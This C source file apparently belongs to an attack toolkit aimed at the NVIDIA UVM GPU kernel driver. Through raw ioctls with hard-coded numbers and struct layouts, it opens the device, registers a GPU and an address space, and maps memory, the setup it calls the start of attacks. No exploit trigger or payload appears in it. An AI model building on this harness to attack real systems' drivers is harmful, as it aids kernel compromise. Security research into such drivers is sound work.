/* What attacks on UVM begin with: a GPU's address space that UVM manages, and mappings there. Numbers and layouts: uvm_ioctl.h. */
#include "attack.h"

/* VASPACE_ALLOCATION_FLAGS_IS_EXTERNALLY_OWNED, ENABLE_PAGE_FAULTING */
#define EXTERNAL 0x48
#define SPACE 0x5c000090u

uint32_t uvm_call (int file, unsigned long number, void *params, size_t status_at)
{
    uint32_t status;

    if (ioctl (file, number, params) < 0)
        return 0x10000u + (uint32_t) errno;
    memcpy (&status, (uint8_t *) params + status_at, sizeof (status));
    return status;
}

/* An address space of the GPU that UVM manages. */
struct uvm uvm_begin (struct bed *bed, bool is_told)
{
    struct uvm uvm = { .file = open ("/dev/nvidia-uvm", O_RDWR) };
    struct {
        uint8_t uuid[16];
        uint32_t numa;
        int32_t node, file;
        uint32_t client, partition, status;
    } gpu = { .file = bed->file, .client = bed->client, .status = 0xffff };
    struct {
        uint8_t uuid[16];
        int32_t file;
        uint32_t client, space, status;
    } space = { .file = bed->file, .client = bed->client, .space = SPACE, .status = 0xffff };
    uint32_t gid[67] = { 0, 2 }, address_space[12] = { 0, EXTERNAL }, said[6];
    uint64_t initialize[2] = { 0, 0xffff };
    int32_t memory[2] = { uvm.file, -1 };
    static const char *const names[] = { "gid", "initialize", "mm", "register", "space", "register-space" };

    said[0] = bed_control (bed, bed->subdevice, 0x2080014a, gid, sizeof (gid));
    memcpy (uvm.uuid, gid + 3, 16);
    memcpy (gpu.uuid, gid + 3, 16);
    memcpy (space.uuid, gid + 3, 16);
    said[1] = uvm_call (uvm.file, 0x30000001, initialize, 8);
    /* MM_INITIALIZE, on a file of its own: before it no address space can be registered. */
    said[2] = uvm_call (open ("/dev/nvidia-uvm", O_RDWR), 75, memory, 4);
    said[3] = uvm_call (uvm.file, 37, &gpu, 36);
    said[4] = bed_alloc (bed, bed->device, SPACE, 0x90f1, address_space);
    said[5] = uvm_call (uvm.file, 25, &space, 28);
    for (unsigned i = 0; is_told && i < 6; i++)
        say (names[i], said[i]);
    return uvm;
}

uint32_t uvm_map (const struct uvm *uvm, const struct bed *bed, unsigned place, uint32_t handle, uint64_t size)
{
    static struct {
        uint64_t base, length, offset;
        struct {
            uint8_t uuid[16];
            uint32_t kinds[5];
        } gpus[256];
        uint64_t count;
        int32_t file;
        uint32_t client, memory, status;
    } params;
    struct {
        uint64_t base, length;
        uint32_t status, spare;
    } range = { UVM_BASE + place * GIB, size, 0xffff, 0 };

    uvm_call (uvm->file, 73, &range, 16);
    memset (&params, 0, sizeof (params));
    params.base = range.base;
    params.length = size;
    memcpy (params.gpus[0].uuid, uvm->uuid, 16);
    params.count = 1;
    params.file = bed->file;
    params.client = bed->client;
    params.memory = handle;
    return uvm_call (uvm->file, 33, &params, 9260);
}
